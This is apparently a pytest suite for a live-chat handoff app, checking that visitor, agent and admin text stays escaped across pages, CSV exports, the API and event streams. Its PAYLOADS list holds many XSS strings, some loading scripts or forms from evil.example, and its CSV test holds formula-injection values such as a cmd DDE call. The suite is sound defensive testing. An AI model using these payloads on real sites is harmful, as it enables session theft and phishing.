"""Stored and reflected XSS: hostile text from visitors, agents and admins shows as text wherever it is rendered."""
import csv
import io
import re

import pytest
from markupsafe import escape

from links import linkify
from models import Agent, ChatSession
from routes.common import plain_text
from tests.conftest import Browser, Server, login
from tests.live import LiveBrowser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(String.fromCharCode(88,83,83))">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</p></li></ol><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example/">',
    "<form action=http://evil.example><button>Sign in again</button></form>",
    '<object data="javascript:alert(1)">',
    "<embed src=javascript:alert(1)>",
    '<div hx-get="/agent/logout" hx-trigger="load">',
    '<hx-partial hx-target="body" hx-swap="innerHTML">pwned</hx-partial>',
    '<div hx-on:click="alert(1)">x</div>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>",
    "<b>bold\nid: 999999\ndata: <script>alert(2)</script>\n\nevent: close</b>",
    "x\r\nevent: close\r\n\r\ndata: <i>forged</i>",
    "{{ 7*7 }} {% raw %} ${alert(1)} javascript:alert(1)",
]


def assert_inert(html: str, payload: str) -> None:
    """The payload is shown, escaped (its http and https addresses as links), and never appears as markup."""
    text = plain_text(payload)
    assert str(escape(text)) in html or str(linkify(text)) in html
    if str(escape(text)) != text:
        assert text not in html


def csv_cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def assert_csv_safe(body: str, payload: str) -> None:
    text = plain_text(payload)
    cells = csv_cells(body)
    assert text in cells or "'" + text in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.fixture
def settings(settings):
    return settings.__class__(**{**settings.__dict__, "visitor_rate": 1000, "api_token": "api-test-token"})


def marked(prefix: str) -> list[tuple[str, str]]:
    """(marker, text) for every payload; the marker keeps each one's text unique on a page that shows them all."""
    return [(f"[{prefix}{n}]", f"[{prefix}{n}] {payload}") for n, payload in enumerate(PAYLOADS)]


def api_texts(browser, chat_id: int) -> list[str]:
    response = browser.client.get(f"/api/sessions/{chat_id}", headers={"Authorization": "Bearer api-test-token"})
    assert response.status_code == 200 and response.headers["content-type"] == "application/json"
    return [m["text"] for m in response.json()["messages"]]


def transcripts(agent) -> str:
    return agent.get("/agent/analytics/transcripts.csv?period=today").text


def test_visitors_messages_are_inert_everywhere(visitor, agent):
    for _, text in marked("v"):
        assert visitor.say(text).status_code == 201
    visitor.post("/chat/handoff")
    chat = ChatSession.get()
    agent.post(f"/agent/sessions/{chat.id}/take")
    pages = {"visitor page": visitor.get("/").text, "dashboard": agent.get(f"/agent/dashboard?chat={chat.id}").text}
    exported, api = transcripts(agent), api_texts(agent, chat.id)
    for _, text in marked("v"):
        for html in pages.values():
            assert_inert(html, text)
        assert_csv_safe(exported, text)
        assert plain_text(text) in api


def test_agents_replies_and_notes_are_inert_everywhere(visitor, agent):
    visitor.say("Hello")
    visitor.post("/chat/handoff")
    chat = ChatSession.get()
    agent.post(f"/agent/sessions/{chat.id}/take")
    for (_, reply), (_, note) in zip(marked("a"), marked("n")):
        assert agent.post(f"/agent/sessions/{chat.id}/messages", {"text": reply}).status_code == 201
        assert agent.post(f"/agent/sessions/{chat.id}/notes", {"text": note}).status_code == 201
    visitor_page, exported = visitor.get("/").text, transcripts(agent)
    dashboard = agent.get(f"/agent/dashboard?chat={chat.id}").text
    for (_, reply), (note_marker, note) in zip(marked("a"), marked("n")):
        for html, text in ((visitor_page, reply), (dashboard, reply), (dashboard, note)):
            assert_inert(html, text)
        assert note_marker not in visitor_page
        assert_csv_safe(exported, reply)
        assert_csv_safe(exported, note)


@pytest.mark.parametrize("payload", PAYLOADS[::3])
def test_transfer_and_closing_notes_are_inert(visitor, agent, other_agent, payload):
    visitor.say("Hello")
    visitor.post("/chat/handoff")
    chat = ChatSession.get()
    agent.post(f"/agent/sessions/{chat.id}/take")
    Agent.by_agent_id("agent_002").touch()  # their dashboard is open
    assert agent.post(f"/agent/sessions/{chat.id}/transfer", {"agent_id": "agent_002", "note": payload}).status_code == 200
    assert_inert(other_agent.get("/agent/dashboard").text, payload)
    other_agent.post(f"/agent/sessions/{chat.id}/close", {"note": payload})
    assert_csv_safe(transcripts(agent), f"Closing note: {payload}")
    assert f"Closing note: {plain_text(payload)}" in api_texts(agent, chat.id)


def test_echoed_form_input_is_inert(app, visitor):
    # Entered, the second client serves every request from one event loop: each request from a fresh one would
    # hold a database connection in a thread of its own, and on PostgreSQL the pool would run out.
    with visitor.client.__class__(app) as client:
        browser = Browser(client)
        browser.get("/agent/login")
        for _, text in marked("e"):
            too_long = visitor.say(text + " " + "x" * 2000)
            assert too_long.status_code == 400
            assert_inert(too_long.text, text + " " + "x" * 2000)
            failed = browser.post("/agent/login", {"agent_id": text[:64], "password": "nope"})
            assert failed.status_code in (400, 429) and str(escape(plain_text(text[:64]))) in failed.text


def test_names_and_canned_replies_set_by_an_admin_are_inert(app, visitor, agent):
    colleague = login(app, "agent_002")
    visitor.say("Hello")
    visitor.post("/chat/handoff")
    chat = ChatSession.get()
    colleague.post(f"/agent/sessions/{chat.id}/take")
    colleague.post(f"/agent/sessions/{chat.id}/messages", {"text": "Hi"})
    for n, (_, text) in enumerate(marked("c")):
        name = plain_text(text)[:80]
        form = {"name": name, "skills": "us", "max_chats": "4", "role": "agent", "active": "on"}
        assert agent.post("/agent/admin/agents/agent_002", form).status_code == 200
        canned = {"shortcut": f"hostile-{n}", "title": name, "text": text}
        assert agent.post("/agent/admin/canned", canned).status_code in (200, 201)
        for page in ("/", "/agent/dashboard", "/agent/admin", "/agent/analytics"):
            assert_inert((visitor if page == "/" else agent).get(page).text, name)
    dashboard, admin_page = agent.get("/agent/dashboard").text, agent.get("/agent/admin/canned").text
    for _, text in marked("c"):
        assert_inert(dashboard, text)
        assert_inert(admin_page, text)


@pytest.mark.parametrize("payload", PAYLOADS[::3])
def test_a_follow_up_message_is_inert(app, visitor, agent, payload):
    Agent.update(last_seen_at=None).execute()  # nobody online, so the visitor may leave a message
    visitor.post("/chat/handoff")
    response = visitor.post("/chat/followup", {"email": "visitor@example.com", "text": payload})
    assert response.status_code == 201
    assert_inert(agent.get("/agent/dashboard").text, payload)


@pytest.mark.parametrize("payload", ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1",
                                     '=HYPERLINK("http://evil.example")'])
def test_csv_exports_neutralise_formulas(visitor, agent, payload):
    visitor.say(payload)
    for path in ("/agent/analytics/transcripts.csv?period=today", "/agent/analytics.csv?period=today"):
        assert not [c for c in csv_cells(agent.get(path).text) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + plain_text(payload) in csv_cells(transcripts(agent))


def by_marker(events: list[dict]) -> dict[str, str]:
    """Each event's html under the [n] marker its text starts with."""
    return {m.group(0): e["data"] for e in events if (m := re.search(r"\[(?:v|a)\d+\]", e["data"]))}


def test_every_payload_is_inert_in_the_live_streams(tmp_path):
    server = Server(tmp_path, HANDOFF_VISITOR_RATE="1000", HANDOFF_ADDRESS_RATE="10000", HANDOFF_AUTO_ASSIGN="0").start()
    try:
        visitor = LiveBrowser(server.url)
        visitor.say("Hello")
        visitor.post("/chat/handoff")
        agent = LiveBrowser.agent(server.url)
        chat_id = int(re.search(r'data-session-id="(\d+)"', agent.http.get("/agent/dashboard").text).group(1))
        assert agent.post(f"/agent/sessions/{chat_id}/take").status_code == 200
        visitor_stream, agent_stream = visitor.stream("/chat/events"), agent.stream("/agent/events")
        assert agent_stream.take(1, timeout=10, with_id=False)
        for n, payload in enumerate(PAYLOADS):
            assert visitor.say(f"[v{n}] {payload}").status_code == 201
            assert agent.post(f"/agent/sessions/{chat_id}/messages", {"text": f"[a{n}] {payload}"}).status_code == 201
        count = 2 * len(PAYLOADS)
        visitor_events, agent_events = visitor_stream.take(count, timeout=15), agent_stream.take(count, timeout=15)
        for events in (visitor_events, agent_events):
            ids = [e["id"] for e in events]
            assert len(ids) == count and ids == sorted(set(ids))
            html = by_marker(events)
            for n, payload in enumerate(PAYLOADS):
                assert_inert(html[f"[v{n}]"], f"[v{n}] {payload}")
                assert_inert(html[f"[a{n}]"], f"[a{n}] {payload}")
        visitor_stream.close()
        agent_stream.close()
    finally:
        server.stop()
